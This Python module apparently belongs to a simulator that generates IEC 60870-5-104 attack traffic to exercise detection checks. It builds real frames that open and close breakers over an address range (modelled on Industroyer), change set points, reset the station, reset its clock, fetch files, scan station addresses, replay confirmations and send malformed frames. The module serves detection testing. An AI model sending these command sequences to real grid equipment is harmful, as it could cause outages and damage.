"""Attacks on a station that speaks IEC 60870-5-104, by a stranger who plays control centre: nobody asks who.

Each attack is one connection, bounded in frames and in time. Whether the station does what it is told is of no
interest: the tap sees what was asked.
"""

import struct
from collections.abc import Iterator
from typing import Final

from simulator.attacks import iec104frame as iec104
from simulator.attacks.attack import Asking

STATION: Final = 1


class Iec104Attack(Asking):
    """Plays control centre. `station` is the common address that is commanded."""

    WAY = "iec104"

    def __init__(self, *, station: int = STATION) -> None:
        self.station = station

    def commands(self) -> Iterator[bytes]:
        """Yield the ASDUs that are sent, one after the other."""
        raise NotImplementedError

    def messages(self) -> Iterator[bytes]:
        """Yield whole frames: the start of data transfer, then the ASDUs with their numbers."""
        yield iec104.unnumbered(iec104.STARTDT)
        for number, asdu in enumerate(self.commands()):
            yield iec104.numbered(asdu, sent=number)


class Iec104Switch(Iec104Attack):
    """Opens switch after switch, as the malware Industroyer did in Kyiv: off and on over a range of addresses."""

    NAME = "iec104_switch"
    CHECKS = ("unauthorised_write",)

    def commands(self) -> Iterator[bytes]:
        """Yield single and double commands."""
        for address in range(1, 9):
            yield iec104.asdu(45, (address, b"\x00"), station=self.station)
            yield iec104.asdu(46, (address, b"\x01"), station=self.station)


class Iec104SetPoint(Iec104Attack):
    """Moves set points."""

    NAME = "iec104_set_point"
    CHECKS = ("unauthorised_write",)

    def commands(self) -> Iterator[bytes]:
        """Yield one set point of each kind."""
        yield iec104.asdu(48, (100, struct.pack("<hB", 0x4000, 0)), station=self.station)
        yield iec104.asdu(49, (101, struct.pack("<hB", 1000, 0)), station=self.station)
        yield iec104.asdu(50, (102, struct.pack("<fB", 1e6, 0)), station=self.station)


class Iec104WrongTime(Iec104Attack):
    """Sets the clock of the station to the first day of 2000."""

    NAME = "iec104_wrong_time"
    CHECKS = ("unauthorised_write",)

    def commands(self) -> Iterator[bytes]:
        """Yield one clock synchronisation (CP56Time2a)."""
        yield iec104.asdu(103, (0, bytes((0, 0, 0, 0, 1, 1, 0))), station=self.station)


class Iec104Reset(Iec104Attack):
    """Resets the process of the station."""

    NAME = "iec104_reset"
    CHECKS = ("critical_function",)

    def commands(self) -> Iterator[bytes]:
        """Yield one general reset."""
        yield iec104.asdu(105, (0, b"\x01"), station=self.station)


class Iec104FileTransfer(Iec104Attack):
    """Asks for the directory and for a file."""

    NAME = "iec104_file"
    CHECKS = ("file_or_program",)

    def commands(self) -> Iterator[bytes]:
        """Yield a call of the directory and the selection of a file, cause 5 and 13."""
        yield iec104.asdu(122, (0, bytes(4)), cause=5, station=self.station)
        yield iec104.asdu(122, (0, b"\x01\x00\x01\x01"), cause=13, station=self.station)


class Iec104StationScan(Iec104Attack):
    """Looks for common addresses: interrogates one after the other."""

    NAME = "iec104_station_scan"
    CHECKS = ("reconnaissance",)

    def commands(self) -> Iterator[bytes]:
        """Yield an interrogation of each of 32 stations."""
        for station in range(1, 33):
            yield iec104.asdu(100, (0, b"\x14"), station=station)


class Iec104Replay(Iec104Attack):
    """Confirms what nobody commanded."""

    NAME = "iec104_replay"
    CHECKS = ("orphan_response",)
    EACH_S = 0.5
    """With 30 of them, longer than the time after a start in which an answer without its question means nothing."""

    def commands(self) -> Iterator[bytes]:
        """Yield the same confirmation again and again."""
        for _ in range(30):
            yield iec104.asdu(45, (1, b"\x01"), cause=iec104.CONFIRM, station=self.station)


class Iec104Malformed(Iec104Attack):
    """Probes for weaknesses: types that do not exist, objects that are cut, control fields that cannot be."""

    NAME = "iec104_malformed"
    CHECKS = ("malformed",)

    def messages(self) -> Iterator[bytes]:
        """Yield broken frames."""
        yield iec104.unnumbered(iec104.STARTDT)
        for _ in range(4):
            yield iec104.numbered(iec104.asdu(99, (1, b"\x00"), station=self.station))
            yield iec104.numbered(iec104.asdu(45, (1, b""), station=self.station))
            yield b"\x68\x04\x05\x00\x00\x00"


ATTACKS: Final[tuple[type[Iec104Attack], ...]] = (
    Iec104FileTransfer,
    Iec104Malformed,
    Iec104Replay,
    Iec104Reset,
    Iec104SetPoint,
    Iec104StationScan,
    Iec104Switch,
    Iec104WrongTime,
)
